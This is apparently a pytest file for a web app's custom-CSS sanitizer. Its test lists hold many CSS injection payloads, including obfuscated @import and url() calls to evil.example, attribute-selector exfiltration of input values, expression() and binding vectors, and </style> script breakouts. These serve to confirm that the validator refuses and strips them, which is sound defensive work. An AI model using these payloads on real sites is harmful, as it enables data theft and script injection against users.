"""Custom CSS cannot reach outside of the page's origin, by whatever spelling."""

import re
from typing import Any

import pytest

from common.appearance import CUSTOM_CSS
from common.errors import AppError
from common.shapes import validate
from common.style_sheets import MAX_DEPTH, MAX_LENGTH, clean_style_sheet, find_problems

FILE = "/files/" + "a1" * 32 + ".png"
HARMLESS = [
    "",
    "h1 { color: red }",
    "main > h1::before { content: 'https://example.com' } /* https://example.com */",
    ":root { --accent: #0b8457 } @media (width < 600px) { a { color: var(--accent) } }",
    "@font-face { font-family: F; src: url(data:font/woff2;base64,AAAA) format('woff2') }",
    f"body {{ background: url({FILE}) no-repeat, url('{FILE}'), linear-gradient(red, blue) }}",
    f"body {{ background: image-set('{FILE}' 1x, url('{FILE}') type('image/png') 2x) }}",
    "a { background: url(data:image/svg+xml,%3Csvg/%3E); filter: url(#shadow) }",
    "@supports (display: grid) { @layer x { @keyframes k { from { top: 0 } } } }",
    "a { scroll-behavior: smooth; overscroll-behavior: none }",
    "a[href^='https://'] { color: red }",
    "a { color: red",
    "} a { color: red }",
]
HOSTILE = [
    "@import 'https://evil.example/x.css';",
    "@import url(//evil.example/x.css) screen;",
    "@\\69mport 'https://evil.example/x.css';",
    "@IMPORT/**/'https://evil.example/x.css';",
    "@namespace x url(https://evil.example/);",
    "input[value^='a'] { background: url(https://evil.example/a) }",
    "a { background: url('https://evil.example/a') }",
    'a { background: url( "//evil.example/a" ) }',
    "a { background: URL(https://evil.example/a) }",
    "a { background: u\\72l(https://evil.example/a) }",
    "a { background: u\\000072 l(https://evil.example/a) }",
    "a { background: url(/**/https://evil.example/a) }",
    "a { background: url(http:evil.example/a) }",
    "a { background: url(\\68ttps://evil.example/a) }",
    "a { background: image-set('https://evil.example/a' 1x) }",
    "a { background: -webkit-image-set(url(https://evil.example/a) 1x) }",
    "a { background: image('https://evil.example/a', red) }",
    "a { background: cross-fade(url(https://evil.example/a), red) }",
    "a { background: src('https://evil.example/a') }",
    "a { --x: 'https://evil.example/a'; background: image-set(var(--x) 1x) }",
    "a { background: image-set(attr(title) 1x) }",
    "a { --x: url(https://evil.example/a); background: var(--x) }",
    "@font-face { font-family: F; src: url(https://evil.example/f.woff2); unicode-range: U+61 }",
    "@media print { @supports (a: b) { a { cursor: url(https://evil.example/a), auto } } }",
    "a { & b { background: url(https://evil.example/a) } }",
    "@property --p { syntax: '<url>'; inherits: false; initial-value: url(https://evil.example/a) }",
    "a { background: url(/oidc/session/end) }",
    "a { background: url(x.png) }",
    "a { background: url() }",
    "a { background: url('data:text/html,<script>alert(1)</script>') }",
    "a { background: url('javascript:alert(1)') }",
    f"a {{ background: url(https://evil.example/x?{FILE}) }}",
    f"a {{ background: url(//evil.example{FILE}) }}",
    "a { width: expression(alert(1)) }",
    "a { width: exp/**/ression(1); behavior: url(#default#time2) }",
    "a { behavior : none }",
    "a { -moz-binding: url(x.xml#a) }",
    "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/a') }",
    "a { background: url(https://evil.example/a",
    "(" * (MAX_DEPTH + 2),
]
# What a browser would fetch, or run.
LEAVES = re.compile(
    r"url\((?!\s*['\"]?(?:data:|/files/|#))|@import|@namespace|expression|binding|[^-]behavior|evil.example/a['\"] 1x",
    re.IGNORECASE,
)


@pytest.mark.parametrize("css", HARMLESS)
def test_what_stays_here_stays_as_it_is(css: str) -> None:
    assert find_problems(css) == []
    assert clean_style_sheet(css) == css
    assert validate(CUSTOM_CSS, css, path="customCss") == css


@pytest.mark.parametrize("css", HOSTILE)
def test_what_leads_elsewhere_is_refused_and_never_drawn(css: str) -> None:
    with pytest.raises(AppError) as refused:
        validate(CUSTOM_CSS, css, path="customCss")
    assert refused.value.code == "guard.invalid_input"
    (issue,) = refused.value.data["issues"] if isinstance(refused.value.data, dict) else refused.value.data
    assert issue["path"] == "customCss"
    cleaned = clean_style_sheet(f"h1 {{ color: red }}\n{css}")
    assert "h1 { color: red }" in cleaned
    assert not LEAVES.search(cleaned), cleaned
    assert find_problems(cleaned) == []


def test_the_line_is_told() -> None:
    problems = find_problems("a { color: red }\n\nb { background: url(https://evil.example/) }\n@import 'x';")
    assert [problem.line for problem in problems] == [3, 4]


def test_the_address_of_an_uploaded_file_is_drawn_for_this_origin() -> None:
    css = f"body {{ background: url(https://acme.id.example.com{FILE}) }}"
    assert find_problems(css) == []
    assert clean_style_sheet(css) == f"body {{ background: url({FILE}) }}"


@pytest.mark.parametrize("css", ["a {} </style><script>alert(1)</script>", "a { content: '</STYLE>' }", "</style "])
def test_nothing_ends_the_element(css: str) -> None:
    assert "</style" not in clean_style_sheet(css).lower()


@pytest.mark.parametrize(
    "css",
    [
        "a {} </* {} body { background: url(https://evil.example/a) } */",
        "</url(data:image/x,/*) {} a { content: '*/) {} body { background: url(https://evil.example/a) } /*' }",
    ],
)
def test_a_slash_is_read_as_it_was_reviewed(css: str) -> None:
    """Mallory writes `</` before what a slash belongs to: escaped for HTML, it turned a comment into a rule of his."""
    assert find_problems(css) == []
    assert find_problems(clean_style_sheet(css)) == []


@pytest.mark.parametrize(
    "unit", ["(", "{", "[", "a{", "url(", "image-set(", "behavior ", "\\", "/*", "'", "@import ", "\u0000"]
)
def test_a_long_one_is_read_to_its_end(unit: str) -> None:
    """Neither the depth of the stack nor a loop within a loop is an attacker's to choose."""
    css: Any = unit * (MAX_LENGTH // len(unit))
    find_problems(css)
    assert "@import" not in clean_style_sheet(css)
    assert clean_style_sheet(css + "a" * MAX_LENGTH) == ""
